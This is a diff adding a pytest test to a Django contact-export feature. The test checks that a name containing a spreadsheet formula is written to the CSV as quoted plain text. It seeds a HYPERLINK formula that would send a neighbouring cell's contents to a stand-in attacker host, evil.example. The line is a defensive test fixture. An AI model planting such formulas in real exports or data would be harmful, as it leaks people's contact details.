@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Callable
 
 import pytest
@@ -172,6 +174,23 @@ def test_the_contact_export_lists_only_consenting_members_and_is_logged(
     assert lines[0] == "Nom;Entreprise;E-mail;Téléphone"
     assert len(lines) == 2 and "Claire Moreau" in lines[1]
     assert AuditEntry.objects.filter(action="network.contacts_export", network=club).exists()
+
+
+def test_the_contact_export_writes_a_formula_typed_as_a_name_as_plain_text(
+    as_any: AsAny, club: Network, manager: User, member: User
+) -> None:
+    person = member.person
+    person.first_name = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+    person.save()
+    ConsentFactory(person=person, purpose=ConsentPurpose.MATCHMAKING, granted=True)
+    body = (
+        as_any("manager")
+        .get(reverse("networks:contacts_export", args=[club.slug]))
+        .content.decode("utf-8-sig")
+    )
+    [row] = list(csv.reader(io.StringIO(body), delimiter=";"))[1:]
+    assert row[0] == "'" + person.full_name
+    assert row[0].startswith("'=HYPERLINK(")
 
 
 def test_the_contact_export_is_a_404_when_the_network_refuses_solicitation(
